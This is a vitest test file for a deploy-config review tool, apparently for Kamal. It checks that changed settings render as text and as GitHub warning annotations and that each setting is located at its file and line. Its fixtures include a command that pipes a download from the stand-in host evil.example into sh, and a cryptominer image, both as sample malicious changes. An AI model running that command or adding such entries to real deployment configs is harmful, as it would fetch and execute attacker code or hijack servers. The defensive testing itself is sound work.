/**
 * Rendering a config change list (src/report/config-diff.ts, config-diff-model.ts) and locating each
 * changed setting in the config (src/kamal/configuration/setting-location.ts): a line per setting,
 * values JSON-quoted and cut, GitHub annotations at the key's file and line.
 */
import { describe, expect, it } from 'vitest';
import { settingLocation } from '../../src/kamal/configuration/setting-location.js';
import { readDeployPlanAndConfig } from '../../src/kamal/index.js';
import { renderConfigDiffGithub, renderConfigDiffText, shownValue } from '../../src/report/config-diff.js';
import { configDiffReport } from '../../src/report/config-diff-model.js';
import { project } from '../kamal/helpers.js';

const CHANGES = [
  { path: 'servers.web.cmd', from: 'bin/rails s', to: "sh -c 'curl https://evil.example/x | sh'" },
  { path: 'accessories.evil.image', to: 'evil/miner:1' },
  { path: 'servers.job.cmd', from: 'bin/jobs' },
];

describe('config diff rendering', () => {
  it('writes one line per setting, added and removed marked', () => {
    expect(renderConfigDiffText(CHANGES, 'config/deploy.yml')).toBe(
      'config/deploy.yml: 3 settings differ\n' +
        `  ~ servers.web.cmd: "bin/rails s" → "sh -c 'curl https://evil.example/x | sh'"\n` +
        '  + accessories.evil.image: "evil/miner:1" (added)\n' +
        '  - servers.job.cmd: "bin/jobs" (removed)\n',
    );
    expect(renderConfigDiffText([], 'x')).toBe('x: no difference\n');
  });

  it('cuts long values to 120 characters and keeps them on one line', () => {
    const shown = shownValue(`a\n${'b'.repeat(300)}`);
    expect(shown).toHaveLength(120);
    expect(shown.endsWith('…')).toBe(true);
    expect(shown).not.toContain('\n');
    expect(shownValue(['--privileged'])).toBe('["--privileged"]');
  });

  it('annotates each setting at its line, else the file only', () => {
    const out = renderConfigDiffGithub(CHANGES, 'config/deploy.yml', (p) => (p === 'servers.web.cmd' ? { file: 'config/deploy.yml', line: 7 } : undefined), 'review');
    expect(out.split('\n')).toEqual([
      `::warning file=config/deploy.yml,line=7::servers.web.cmd: "bin/rails s" → "sh -c 'curl https://evil.example/x | sh'"`,
      '::warning file=config/deploy.yml::accessories.evil.image: (none) → "evil/miner:1" (added)',
      '::warning file=config/deploy.yml::servers.job.cmd: "bin/jobs" → (none) (removed)',
      'review: 3 settings changed',
      '',
    ]);
  });

  it('models the difference as kamal-gate/config-diff/v1', () => {
    const report = configDiffReport(
      { config: 'config/deploy.yml', service: 'shop', from: { source: 'approved', version: 'v1', fingerprint: 'sha256:a' }, to: { source: 'working-tree', fingerprint: 'sha256:b' } },
      CHANGES,
      (p) => (p === 'servers.web.cmd' ? { file: 'config/deploy.yml', line: 7 } : undefined),
    );
    expect(report.schema).toBe('kamal-gate/config-diff/v1');
    expect(report.equal).toBe(false);
    expect(report.changes.map((c) => [c.path, c.kind, c.location?.line])).toEqual([
      ['servers.web.cmd', 'changed', 7],
      ['accessories.evil.image', 'added', undefined],
      ['servers.job.cmd', 'removed', undefined],
    ]);
  });
});

describe('settingLocation', () => {
  it("finds the changed setting's key, in the overlay when it sets it", async () => {
    const cwd = project({
      'config/deploy.yml': [
        'service: shop',
        'image: acme/shop',
        'servers:',
        '  web:',
        '    hosts: [10.0.0.1]',
        '    cmd: bin/rails s',
        '    labels:',
        '      traefik.http.routers.shop.rule: Host(`x`)',
        'env:',
        '  clear:',
        '    RAILS_ENV: production',
        'accessories:',
        '  db:',
        '    image: mysql:8.0',
        '    host: 10.0.0.3',
        'registry:',
        '  server: ghcr.io',
        '  username: acme',
        '  password: [KAMAL_REGISTRY_PASSWORD]',
        'builder:',
        '  arch: amd64',
        '',
      ].join('\n'),
      'config/deploy.staging.yml': 'ssh:\n  proxy_command: nc %h %p\n',
    });
    const { config } = await readDeployPlanAndConfig({ cwd, env: {}, version: 'v1', destination: 'staging' });
    const at = (p: string) => {
      const loc = settingLocation(config.configuration, p);
      return loc && `${loc.file}:${loc.line}`;
    };
    expect(at('servers.web.cmd')).toBe('config/deploy.yml:6');
    expect(at('servers.web.labels.traefik.http.routers.shop.rule')).toBe('config/deploy.yml:8');
    expect(at('defaults.env.clear.RAILS_ENV')).toBe('config/deploy.yml:11');
    expect(at('images.accessory.db')).toBe('config/deploy.yml:14');
    expect(at('images.app.web')).toBe('config/deploy.yml:2');
    expect(at('ssh.proxy_command')).toBe('config/deploy.staging.yml:2');
    // not written: the nearest key that is, or nothing
    expect(at('servers.web.options.privileged')).toBe('config/deploy.yml:4');
    expect(at('boot.limit')).toBeUndefined();
  });
});
